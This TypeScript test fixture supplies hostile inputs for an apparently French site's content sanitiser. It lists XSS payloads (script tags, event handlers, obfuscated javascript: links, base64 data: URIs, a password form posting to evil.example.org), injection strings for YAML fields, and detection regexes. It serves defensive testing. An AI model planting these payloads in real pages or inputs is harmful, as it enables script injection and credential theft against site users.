/**
 * A corpus of hostile contributions. Bodies carrying markup or dangerous links
 * must be refused by the check; strings smuggled through YAML fields (names,
 * cities, testimonies, URLs) pass the check but must reach pages as text.
 */

/** Markdown bodies the check must refuse, each named for the vector it carries. */
export const refusedBodies: Record<string, string> = {
  'script-tag': 'Texte <script>alert(1)</script>',
  'script-mixed-case': 'Texte <ScRiPt>alert(1)</sCrIpT>',
  'event-attribute': 'Texte <img src=x onerror=alert(1)>',
  'svg-onload': '<svg onload=alert(1)><circle r="1"/></svg>',
  iframe: '<iframe src="https://evil.example.org"></iframe>',
  style: '<style>body { display: none }</style>',
  'html-comment': 'Texte <!-- <script>alert(1)</script> -->',
  'html-link': '<a href="javascript:alert(1)">clic</a>',
  'javascript-link': '[clic](javascript:alert(1))',
  'javascript-mixed-case': '[clic](JaVaScRiPt:alert(1))',
  'javascript-entities': '[clic](&#106;avascript:alert(1))',
  'javascript-entity-inside': '[clic](java&#115;cript:alert(1))',
  'javascript-hex-entities': '[clic](&#x6A;&#x61;vascript:alert(1))',
  'javascript-leading-space': '[clic]( javascript:alert(1))',
  'javascript-angle-brackets': '[clic](<javascript:alert(1)>)',
  'javascript-autolink': '<javascript:alert(1)>',
  'javascript-reference': '[clic][lien]\n\n[lien]: javascript:alert(1)',
  'javascript-image': '![image](javascript:alert(1))',
  'vbscript-link': '[clic](vbscript:msgbox(1))',
  'data-link': '[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'data-image': '![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'remote-image': '![pisteur](https://tracker.example.net/pixel.png)',
  'protocol-relative-link': '[clic](//evil.example.org/)',
  'http-link': '[clic](http://example.org/)',
  'bare-www-link': 'Voyez www.example.org pour en savoir plus.',
  'object-embed': '<object data="x.swf"></object><embed src="x.swf">',
  'form-injection': '<form action="https://evil.example.org"><input name="mdp"></form>',
  'meta-refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example.org">',
};

/** Filler to reach the minimum length of a body without changing what it carries. */
export const FILLER =
  'Cette structure accompagne les associations de son territoire dans le choix, l’installation et la prise en main de logiciels libres, avec des formations adaptées aux bénévoles et une documentation claire. ';

/** Strings that are valid field values but must only ever appear as text. */
export const smuggled = {
  name: `<script>alert('nom')</script> Structure hostile (exemple)`,
  city: `"><img src=x onerror=alert('ville')>`,
  details: `<iframe src="javascript:alert('tarif')"></iframe>`,
  association: `<svg onload=alert('asso')> Association hostile (exemple)`,
  projectTitle: `</title><script>alert('projet')</script> Outil`,
  summary: `"'><script>alert('résumé')</script>`,
  testimony: `Nous recommandons &lt;script&gt;alert('entité')&lt;/script&gt; et \`<script>alert('code')</script>\` sans crainte. `,
  website: `https://hostile.example.org/"><script>alert('url')</script>`,
  funder: `<img src=x onerror=alert('financeur')>`,
};

/** Patterns that mean executable content reached a page. */
export const executableVectors: Array<[string, RegExp]> = [
  ['balise <script> venue du contenu', /<script\b[^>]*>[^<]*alert\(/i],
  ['attribut d’événement', /<[a-z][^>]*\son[a-z]+\s*=/i],
  ['lien javascript:', /\b(?:href|src|action|formaction|xlink:href)\s*=\s*["']?\s*(?:javascript|vbscript):/i],
  ['lien data:text/html', /\b(?:href|src)\s*=\s*["']?\s*data:text\/html/i],
  ['<iframe>', /<iframe\b/i],
  ['<object> ou <embed>', /<(?:object|embed)\b/i],
  ['<meta http-equiv="refresh">', /<meta[^>]+http-equiv\s*=\s*["']?refresh/i],
];
